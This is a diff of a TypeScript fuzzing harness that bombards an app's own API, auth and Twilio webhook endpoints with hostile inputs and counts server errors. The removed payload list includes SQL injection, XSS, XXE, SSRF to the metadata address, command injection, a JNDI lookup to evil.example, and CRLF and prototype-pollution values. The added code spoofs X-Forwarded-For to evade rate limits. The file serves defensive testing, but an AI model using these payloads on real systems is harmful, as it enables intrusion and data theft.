@@ -1,6 +1,16 @@
 import { createHmac } from "node:crypto";
 import { Agent, request } from "node:http";
-import { appRouter } from "@waystation/api/root";
+import { TEXTS, VALUES } from "./bad-values-testing.ts";
+import {
+  authOffers,
+  type Known,
+  NOBODY,
+  type Offer,
+  plausible,
+  procedures,
+  type RestOffer,
+  restOffers,
+} from "./plausible-inputs-testing.ts";
 
 /** Requests that nobody sends in good faith, the same ones each time, and what a server answers to them. */
 
@@ -12,16 +22,20 @@ export interface Attack {
   path: string;
   headers: Record<string, string>;
   body?: string | Buffer;
-  /** Whether somebody who is signed in sends it. */
-  isSignedIn?: boolean;
+  /** What the sender shows of themselves, if anything. */
+  as?: "owner" | "founder" | "key";
 }
 
 export interface Target {
   url: string;
   publicUrl: string;
-  account: { sid: string; token: string; sender: string };
+  known: Known;
   /** Of an owner. */
   cookie: string;
+  /** Of another, who founds organisations: what one of very many does gets slow. */
+  founderCookie: string;
+  /** An API key of an admin. */
+  apiKey: string;
 }
 
 export interface Report {
@@ -29,228 +43,6 @@ export interface Report {
   counts: Record<string, Record<string, number>>;
   /** What got an answer of ours being at fault, or none. */
   failures: { status: string; attack: Attack }[];
-}
-
-const repeat = (text: string, times: number) => text.repeat(times);
-
-/** Texts that have broken parsers, databases, pages and terminals. */
-const TEXTS: string[] = [
-  ...[
-    "",
-    " ",
-    "\t",
-    "\n",
-    "\r\n",
-    "\0",
-    "\0\0a",
-    "a\0b",
-    "%00",
-    "\\0",
-    "\u200b",
-    "\ufeff",
-    "\u2028\u2029",
-    "\u202eabc",
-    "\ud800",
-    "\udfff\ud800",
-    "\uffff",
-    "e\u0301",
-    "𝒳".repeat(9),
-    "👩‍👩‍👧‍👦",
-    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
-    "ﷺ".repeat(20),
-    "İi̇ıI",
-    "ﬀﬁ",
-    "\x1b[31mred\x1b[0m",
-    "\x07\x08",
-    "\x7f\x80\x9f",
-  ],
-  ...[
-    "undefined",
-    "null",
-    "NULL",
-    "None",
-    "nil",
-    "NaN",
-    "Infinity",
-    "-Infinity",
-    "true",
-    "false",
-    "0",
-    "-0",
-    "1e309",
-    "-1",
-    "0x10",
-    "1_000",
-    "9007199254740993",
-    "18446744073709551616",
-    "-9223372036854775809",
-    "1.7976931348623157e308",
-    "٣",
-    "Ⅷ",
-    "[]",
-    "{}",
-    "[object Object]",
-    "function(){}",
-  ],
-  ...[
-    "'",
-    "''",
-    '"',
-    "`",
-    "\\",
-    "\\'",
-    "';--",
-    "' OR '1'='1",
-    "1; DROP TABLE messages;--",
-    "') OR 1=1--",
-    "' UNION SELECT token FROM sessions--",
-    "$1",
-    "$$;select pg_sleep(9);$$",
-    "1' AND (SELECT pg_sleep(9)) IS NULL--",
-    "'||(select version())||'",
-    "{1,2,3}",
-    '{"a"',
-    "\\x00",
-    "E'\\\\x41'",
-    "%",
-    "_",
-    "%%%",
-    "a%' ESCAPE '!",
-    "\\%",
-    ":*",
-    "a & b | !c",
-    "<->",
-    "'a':*",
-  ],
-  ...[
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '"><svg/onload=alert(1)>',
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "{{7*7}}",
-    "$\u007b7*7}",
-    "<%= 7*7 %>",
-    "#{7*7}",
-    "*{7*7}",
-    "{%import os%}",
-    '<!--#exec cmd="id"-->',
-    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
-    "]]>",
-    "<![CDATA[",
-  ],
-  ...[
-    "../../../../etc/passwd",
-    "..\\..\\windows\\win.ini",
-    "/etc/passwd\0.png",
-    "....//....//",
-    "%2e%2e%2f",
-    "%252e%252e%252f",
-    "file:///etc/passwd",
-    "http://127.0.0.1:5432/",
-    "http://[::1]/",
-    "http://169.254.169.254/latest/meta-data/",
-    "//evil.example",
-    "\\\\evil.example",
-    "https://evil.example@localhost",
-    "http://2130706433/",
-    "gopher://127.0.0.1",
-    "$(id)",
-    "`id`",
-    "; id",
-    "| id",
-    "&& id",
-    "\nid",
-    "%0aid",
-  ],
-  ...[
-    "a\r\nSet-Cookie: x=1",
-    "%0d%0aX: y",
-    "=1+1",
-    "+1",
-    "@SUM(A1)",
-    "-2+3",
-    '=HYPERLINK("http://evil.example")',
-    "%s%s%s%n",
-    "%x%d%p",
-    "%999999999d",
-    "() { :; }; id",
-    "$\u007bjndi:ldap://evil.example/a}",
-    "(a+)+$",
-    "aaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
-    repeat("(", 500),
-    repeat("[", 2_000),
-    repeat('{"a":', 500),
-  ],
-  ...[
-    "__proto__",
-    "constructor",
-    "prototype",
-    "toString",
-    "hasOwnProperty",
-    "__defineGetter__",
-    "valueOf",
-    "then",
-    "__proto__[x]",
-    "constructor.prototype.x",
-    "length",
-    "-1.length",
-    "$ne",
-    "$where",
-    "[$gt]",
-  ],
-  ...[
-    "AC00000000000000000000000000000000",
-    "SM00000000000000000000000000000000",
-    "MG00000000000000000000000000000000",
-    "whatsapp:",
-    "whatsapp:+",
-    "whatsapp:+1",
-    "whatsapp:+999999999999999999999",
-    "+14155550100",
-    "00000000-0000-0000-0000-000000000000",
-    "ffffffff-ffff-ffff-ffff-ffffffffffff",
-    "01a20879-6726-743d-830a",
-    "2026-02-30",
-    "9999-99-99T99:99:99Z",
-    "-271821-04-20T00:00:00Z",
-    "a@b",
-    "a@b.c\r\nBcc: d@e.f",
-    `${repeat("a", 250)}@example.org`,
-    '"a b"@example.org',
-    "a@[127.0.0.1]",
-  ],
-  ...[255, 256, 1_023, 4_096, 65_535, 70_000].map((length) => repeat("A", length)),
-  ...[300, 5_000].map((length) => repeat("\u0000", length)),
-  ...[300, 5_000].map((length) => repeat("é", length)),
-];
-
-/** The same, and what is no text. */
-const VALUES: unknown[] = [
-  ...TEXTS,
-  ...[null, true, false, 0, -0, 1, -1, 1.5, 1e21, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308],
-  ...[
-    [],
-    {},
-    [[]],
-    [null],
-    [{}],
-    ["a", 1],
-    { a: { b: { c: 1 } } },
-    { length: 1e9 },
-    { toString: 1 },
-    JSON.parse('{"then": 1}'),
-  ],
-  { constructor: { prototype: { polluted: 1 } } },
-  JSON.parse('{"__proto__": {"polluted": 1}}'),
-  Array.from({ length: 1_000 }, (_, index) => index),
-  nested(200),
-];
-
-function nested(depth: number): unknown {
-  let value: unknown = 1;
-  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value };
-  return value;
 }
 
 /** Numbers that come in the same order each time. */
@@ -267,91 +59,81 @@ export function dice(seed: number) {
 }
 type Dice = ReturnType<typeof dice>;
 
-interface Procedure {
-  path: string;
-  isMutation: boolean;
-  fields: string[];
+const JSON_TYPE = { "content-type": "application/json" };
+
+/** What an attack needs to know of its target. */
+type Aim = Pick<Target, "publicUrl" | "known">;
+
+interface Signed {
+  publicUrl: string;
+  known: Pick<Known, "accountSid" | "authToken" | "sender">;
 }
 
-const procedures: Procedure[] = Object.entries(
-  appRouter._def.procedures as unknown as Record<
-    string,
-    { _def: { type: string; inputs: { shape?: Record<string, unknown> }[] } }
-  >,
-).map(([path, { _def }]) => ({
-  path,
-  isMutation: _def.type === "mutation",
-  fields: Object.keys(_def.inputs[0]?.shape ?? {}),
-}));
-/** What would let the sender's own session or connection end. */
-const HARMLESS = procedures.filter(({ path }) => !/^(team\.remove|session\.end)/.test(path));
+/** All but what would let the sender's own session or connection end. */
+const HARMLESS = procedures.filter(({ path }) => path !== "team.remove");
 
-/** Something that passes many a schema, by the field's name. */
-function plausible(field: string): unknown {
-  if (/Ids?$|^id$/.test(field)) return "01a20879-6726-743d-830a-18a0d31b3a8a";
-  return (
-    (
-      {
-        mode: "test",
-        role: "member",
-        limit: 10,
-        body: "Hello",
-        name: "Olga",
-        password: "a password nobody guesses",
-        since: null,
-        configureWebhook: false,
-        showsTyping: true,
-        doing: "looking",
-      } as Record<string, unknown>
-    )[field] ?? "text"
-  );
-}
-
-function call({ path, isMutation }: Procedure, input: unknown): Attack {
+function call({ path, method }: Offer, input: unknown): Attack {
   const text = JSON.stringify(input) ?? "";
-  const headers: Record<string, string> = { "content-type": "application/json" };
-  return isMutation
-    ? { route: "trpc", method: "POST", path: `/api/trpc/${path}`, headers, body: text, isSignedIn: true }
-    : {
-        route: "trpc",
-        method: "GET",
-        path: `/api/trpc/${path}?input=${escaped(text)}`,
-        headers: {},
-        isSignedIn: true,
-      };
+  const as = path === "organizations.create" ? "founder" : "owner";
+  const place = `/api/trpc/${path}`;
+  return method === "POST"
+    ? { route: "trpc", method, path: place, headers: JSON_TYPE, body: text, as }
+    : { route: "trpc", method, path: `${place}?input=${escaped(text)}`, headers: {}, as };
+}
+
+function callAuth({ path, method }: Offer, input: object): Attack {
+  const attack = { route: "auth", method, path: `/api/auth${path}`, headers: JSON_TYPE } as const;
+  const whole: Attack =
+    method === "POST"
+      ? { ...attack, body: JSON.stringify(input) }
+      : { ...attack, path: `${attack.path}?${query(input)}` };
+  return /sign-(in|out)/.test(path) ? whole : { ...whole, as: "owner" };
+}
+
+function callRest({ path, method, inPath, inQuery }: RestOffer, input: object): Attack {
+  const fields = new Map<string, unknown>(Object.entries(input));
+  const take = (name: string) => {
+    const value = fields.get(name);
+    fields.delete(name);
+    return escaped(asText(value)).slice(0, 4_000);
+  };
+  const filled = path.replaceAll(/\{(\w+)\}/g, (_, name: string) => take(name));
+  const asked = inQuery.filter((name) => fields.has(name)).map((name) => `${name}=${take(name)}`);
+  // What has no place of its own goes where the others go, too.
+  if (method !== "POST") asked.push(query(Object.fromEntries(fields)));
+  return {
+    route: "rest",
+    method,
+    path: inPath.length > 0 || asked.length > 0 ? `${filled}?${asked.join("&")}` : filled,
+    headers: JSON_TYPE,
+    ...(method === "POST" ? { body: JSON.stringify(Object.fromEntries(fields)) } : {}),
+    as: "owner",
+  };
+}
+
+function asText(value: unknown): string {
+  return typeof value === "string" ? value : (JSON.stringify(value) ?? "");
+}
+
+function query(input: object): string {
+  return Object.entries(input)
+    .map(([name, value]) => `${escaped(name)}=${escaped(asText(value)).slice(0, 4_000)}`)
+    .join("&");
+}
+
+/** Of an input that would pass, but names nothing that would be missed. */
+function valid({ path, method }: Offer, names: readonly string[], { known }: Aim, number: number) {
+  const ends = method === "DELETE" || path === "twilioWhatsApp.disconnect";
+  return names.map((name): [string, unknown] => [
+    name,
+    plausible(name, ends ? { ...known, connectionId: NOBODY } : known, number),
+  ]);
 }
 
 function escaped(text: string): string {
   return encodeURIComponent(text.toWellFormed()).slice(0, 12_000);
 }
 
-const AUTH = [
-  "/sign-in/email",
-  "/sign-out",
-  "/change-password",
-  "/list-sessions",
-  "/revoke-session",
-  "/revoke-other-sessions",
-  "/get-session",
-  "/sign-up/email",
-  "/two-factor/verify",
-  "/error",
-  "/callback/x",
-  "/reset-password/x",
-];
-const AUTH_FIELDS = [
-  "email",
-  "password",
-  "newPassword",
-  "currentPassword",
-  "callbackURL",
-  "rememberMe",
-  "token",
-  "code",
-];
-const REST = ["/connect", "/verify"];
-const REST_ROOT = "/api/integrations/twilio-whatsapp";
-const REST_FIELDS = ["mode", "accountSid", "authToken", "apiKeySid", "sender", "connectionId"];
 const WEBHOOK = "/api/webhooks/twilio-whatsapp";
 const WEBHOOK_FIELDS = [
   "AccountSid",
@@ -376,45 +158,26 @@ const WEBHOOK_FIELDS = [
   "MessagingServiceSid",
   "ExternalUserId",
 ];
-const JSON_TYPE = { "content-type": "application/json" };
 
 /** Each nasty value at each place that takes one. */
-export function* fixedAttacks(target: Pick<Target, "publicUrl" | "account">): Generator<Attack> {
-  for (const procedure of HARMLESS)
-    for (const value of VALUES) {
-      yield call(procedure, value);
-      for (const field of procedure.fields)
-        yield call(procedure, {
-          ...Object.fromEntries(procedure.fields.map((name) => [name, plausible(name)])),
-          [field]: value,
-        });
-    }
+export function* fixedAttacks(aim: Aim): Generator<Attack> {
+  let number = 0;
+  function* eachField(offer: Offer): Generator<Record<string, unknown>> {
+    for (const field of [...offer.required, ...offer.optional])
+      for (const value of VALUES)
+        yield Object.fromEntries([...valid(offer, offer.required, aim, number++), [field, value]]);
+  }
+  for (const procedure of HARMLESS) {
+    for (const value of VALUES) yield call(procedure, value);
+    for (const input of eachField(procedure)) yield call(procedure, input);
+  }
+  for (const offer of authOffers) for (const input of eachField(offer)) yield callAuth(offer, input);
+  for (const offer of restOffers) for (const input of eachField(offer)) yield callRest(offer, input);
   for (const field of WEBHOOK_FIELDS)
     for (const text of TEXTS) {
-      yield webhook(target, { ...message(target, text.length), [field]: text });
-      yield webhook(target, { ...message(target, text.length), [text || "empty"]: field });
+      yield webhook(aim, { ...message(aim, text.length), [field]: text });
+      yield webhook(aim, { ...message(aim, text.length), [text || "empty"]: field });
     }
-  for (const path of AUTH)
-    for (const field of AUTH_FIELDS)
-      for (const value of VALUES)
-        yield {
-          route: "auth",
-          method: "POST",
-          path: `/api/auth${path}`,
-          headers: JSON_TYPE,
-          body: JSON.stringify({ email: "olga@example.org", password: "wrong", [field]: value }),
-        };
-  for (const path of REST)
-    for (const field of REST_FIELDS)
-      for (const value of VALUES)
-        yield {
-          route: "rest",
-          method: "POST",
-          path: REST_ROOT + path,
-          headers: JSON_TYPE,
-          body: JSON.stringify({ mode: "test", accountSid: "AC", authToken: "x", [field]: value }),
-          isSignedIn: true,
-        };
   for (const text of TEXTS)
     for (const root of [
       "/",
@@ -424,48 +187,52 @@ export function* fixedAttacks(target: Pick<Target, "publicUrl" | "account">): Ge
       "/api/media/",
       "/join/",
       "/assets/",
-      `${REST_ROOT}/`,
+      "/api/conversations/",
+      "/api/audit/export?format=csv&search=",
     ])
       yield {
         route: "other",
         method: "GET",
         path: root + escaped(text).slice(0, 4_000),
         headers: {},
-        isSignedIn: true,
+        as: "owner",
       };
 }
 
 /** One after the other, for ever, each made of what `seed` throws. */
-export function* generatedAttacks(
-  target: Pick<Target, "publicUrl" | "account">,
-  seed: number,
-): Generator<Attack, never> {
+export function* generatedAttacks(aim: Aim, seed: number): Generator<Attack, never> {
   const thrown = dice(seed);
   for (let count = 0; ; count++)
     switch (thrown.below(8)) {
       case 0:
       case 1:
       case 2:
-        yield badCall(thrown);
+        yield badCall(aim, thrown, count);
         break;
       case 3:
       case 4:
-        yield badWebhook(target, thrown, count);
+        yield badWebhook(aim, thrown, count);
         break;
-      case 5:
-        yield badJson(thrown, "auth", `/api/auth${thrown.one(AUTH)}`, AUTH_FIELDS);
+      case 5: {
+        const offer = thrown.one(authOffers);
+        yield spoiled(thrown, callAuth(offer, badFields(aim, thrown, offer, count)));
         break;
-      case 6:
-        yield badJson(thrown, "rest", REST_ROOT + thrown.one(["", ...REST]), REST_FIELDS);
+      }
+      case 6: {
+        const offer = thrown.one(restOffers);
+        const attack = spoiled(thrown, callRest(offer, badFields(aim, thrown, offer, count)));
+        yield thrown.below(20) === 0 ? { ...attack, as: "key" } : attack;
         break;
-      default:
-        yield {
+      }
+      default: {
+        const attack: Attack = {
           route: "other",
           method: thrown.one(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"]),
           path: `/${thrown.one(["", "api", "api/trpc", "api/auth", "api/media", "api/openapi.json", "assets", "healthz"])}/${escaped(badText(thrown)).slice(0, 2_000)}`,
           headers: badHeaders(thrown),
-          isSignedIn: thrown.below(2) === 0,
         };
+        yield thrown.below(2) === 0 ? { ...attack, as: "owner" } : attack;
+      }
     }
 }
 
@@ -506,13 +273,16 @@ function badValue(thrown: Dice, depth = 3): unknown {
   }
 }
 
-function badFields(thrown: Dice, fields: readonly string[]): unknown {
-  if (thrown.below(6) === 0) return badValue(thrown);
-  const input: Record<string, unknown> = Object.fromEntries(fields.map((name) => [name, plausible(name)]));
-  for (let changes = 1 + thrown.below(3); changes > 0; changes--)
-    input[thrown.below(5) === 0 || fields.length === 0 ? badText(thrown) : thrown.one(fields)] =
-      badValue(thrown);
-  return input;
+function badFields(aim: Aim, thrown: Dice, offer: Offer, number: number): Record<string, unknown> {
+  const optional = offer.optional.filter(() => thrown.below(4) === 0);
+  const fields = [...offer.required, ...offer.optional];
+  const input = new Map(valid(offer, [...offer.required, ...optional], aim, number));
+  for (let changes = 1 + thrown.below(3); changes > 0; changes--) {
+    const isOwn = thrown.below(5) > 0 && fields.length > 0;
+    input.set(isOwn ? thrown.one(fields) : badText(thrown), badValue(thrown));
+  }
+  // Not by assignment: one of the names is __proto__.
+  return Object.fromEntries(input);
 }
 
 /** Cut off, stretched, or with a byte that does not belong there. */
@@ -572,9 +342,10 @@ function badHeaders(thrown: Dice): Record<string, string> {
   return headers;
 }
 
-function badCall(thrown: Dice): Attack {
+function badCall(aim: Aim, thrown: Dice, number: number): Attack {
   const procedure = thrown.one(HARMLESS);
-  const attack = call(procedure, badFields(thrown, procedure.fields));
+  const input = thrown.below(6) === 0 ? badValue(thrown) : badFields(aim, thrown, procedure, number);
+  const attack = call(procedure, input);
   if (thrown.below(10) === 0)
     attack.path = `/api/trpc/${Array.from({ length: 1 + thrown.below(14) }, () => thrown.one(HARMLESS).path).join()}?batch=1`;
   return {
@@ -585,26 +356,28 @@ function badCall(thrown: Dice): Attack {
   };
 }
 
-function badJson(thrown: Dice, route: Route, path: string, fields: string[]): Attack {
+/** Some of them with another method, other headers, or a body that is none. */
+function spoiled(thrown: Dice, attack: Attack): Attack {
   return {
-    route,
-    method: thrown.one(["POST", "POST", "POST", "POST", "GET", "DELETE", "PUT"]),
-    path: thrown.below(8) === 0 ? `${path}?${escaped(badText(thrown)).slice(0, 2_000)}=1` : path,
-    headers: thrown.below(6) === 0 ? badHeaders(thrown) : JSON_TYPE,
-    body: damaged(thrown, JSON.stringify(badFields(thrown, fields)) ?? ""),
-    isSignedIn: route === "rest",
+    ...attack,
+    method: thrown.below(8) === 0 ? thrown.one(["POST", "GET", "DELETE", "PUT"]) : attack.method,
+    path: thrown.below(8) === 0 ? withParameter(thrown, attack.path) : attack.path,
+    headers: thrown.below(8) === 0 ? badHeaders(thrown) : attack.headers,
+    body: typeof attack.body === "string" ? damaged(thrown, attack.body) : attack.body,
   };
 }
 
-type Signed = Pick<Target, "publicUrl" | "account">;
+function withParameter(thrown: Dice, path: string): string {
+  return `${path}${path.includes("?") ? "&" : "?"}${escaped(badText(thrown)).slice(0, 2_000)}=1`;
+}
 
-function message({ account }: Signed, number: number): Record<string, string> {
+export function message({ known }: Signed, number: number): Record<string, string> {
   const sid = `SM${number.toString(16).padStart(32, "0")}`;
   return {
-    AccountSid: account.sid,
+    AccountSid: known.accountSid,
     MessageSid: sid,
     From: "whatsapp:+4915112345678",
-    To: account.sender,
+    To: known.sender,
     Body: "Hello",
     SmsStatus: "received",
     NumMedia: "0",
@@ -612,13 +385,13 @@ function message({ account }: Signed, number: number): Record<string, string> {
 }
 
 /** Signed as Twilio would: what is wrong with it is for the reader to find, not for the door. */
-function webhook({ publicUrl, account }: Signed, params: Record<string, string>): Attack {
+export function webhook({ publicUrl, known }: Signed, params: Record<string, string>): Attack {
   const body = new URLSearchParams(params).toString();
   const pairs = [...new URLSearchParams(body)]
     .toSorted(([a], [b]) => (a < b ? -1 : 1))
     .flat()
     .join("");
-  const signature = createHmac("sha1", account.token)
+  const signature = createHmac("sha1", known.authToken)
     .update(publicUrl + WEBHOOK + pairs)
     .digest("base64");
   return {
@@ -630,11 +403,11 @@ function webhook({ publicUrl, account }: Signed, params: Record<string, string>)
   };
 }
 
-function badWebhook(target: Signed, thrown: Dice, count: number): Attack {
-  const params = message(target, count);
+function badWebhook(aim: Aim, thrown: Dice, count: number): Attack {
+  const params = message(aim, count);
   for (let changes = 1 + thrown.below(4); changes > 0; changes--)
     params[thrown.below(4) === 0 ? badText(thrown) || "empty" : thrown.one(WEBHOOK_FIELDS)] = badText(thrown);
-  const attack = webhook(target, params);
+  const attack = webhook(aim, params);
   if (thrown.below(4) > 0) return attack;
   return {
     ...attack,
@@ -649,7 +422,7 @@ function badWebhook(target: Signed, thrown: Dice, count: number): Attack {
   };
 }
 
-/** Sends them, so many at once, and counts what comes back. */
+/** Sends them, each from an address of its own and so many at once, and counts what comes back. */
 export async function assault(
   target: Target,
   attacks: Iterable<Attack>,
@@ -658,9 +431,10 @@ export async function assault(
   const agent = new Agent({ keepAlive: true, maxSockets: parallel });
   const report: Report = { counts: {}, failures: [] };
   const queue = attacks[Symbol.iterator]();
+  let number = 0;
   const worker = async () => {
     for (let next = queue.next(); !next.done; next = queue.next()) {
-      const status = await send(target, next.value, agent);
+      const status = await send(target, next.value, agent, addressOf(number++));
       const { route } = next.value;
       report.counts[route] = { ...report.counts[route], [status]: (report.counts[route]?.[status] ?? 0) + 1 };
       if (/^5|^no answer/.test(status) && report.failures.length < 20)
@@ -673,15 +447,27 @@ export async function assault(
 }
 
 const PATIENCE_MS = 60_000;
+/** A process that was stopped for so long finds the answer waiting. */
+const GRACE_MS = 2_000;
 
-function send(target: Target, attack: Attack, agent: Agent): Promise<string> {
+/** One of a network that is nobody's, so that no limit for an address takes the place of what is tried. */
+function addressOf(number: number): string {
+  return `2001:db8:${(number >>> 16).toString(16)}:${(number & 0xffff).toString(16)}::1`;
+}
+
+function send(target: Target, attack: Attack, agent: Agent, address: string): Promise<string> {
   return new Promise((resolve) => {
-    const { method, path, headers, body, isSignedIn } = attack;
+    const { method, path, headers, body, as } = attack;
+    const shown = {
+      owner: { cookie: target.cookie },
+      founder: { cookie: target.founderCookie },
+      key: { authorization: `Bearer ${target.apiKey}` },
+    };
     const asked = request(target.url, {
       agent,
       method,
       path,
-      headers: isSignedIn ? { ...headers, cookie: target.cookie } : headers,
+      headers: { "x-forwarded-for": address, ...headers, ...(as ? shown[as] : {}) },
       timeout: PATIENCE_MS,
     });
     asked.once("response", (response) => {
@@ -693,8 +479,10 @@ function send(target: Target, attack: Attack, agent: Agent): Promise<string> {
     // Whoever sends too much is hung up on.
     asked.on("error", () => resolve("closed"));
     asked.once("timeout", () => {
-      resolve("no answer");
-      asked.destroy();
+      setTimeout(() => {
+        resolve("no answer");
+        asked.destroy();
+      }, GRACE_MS);
     });
     asked.end(body);
   });
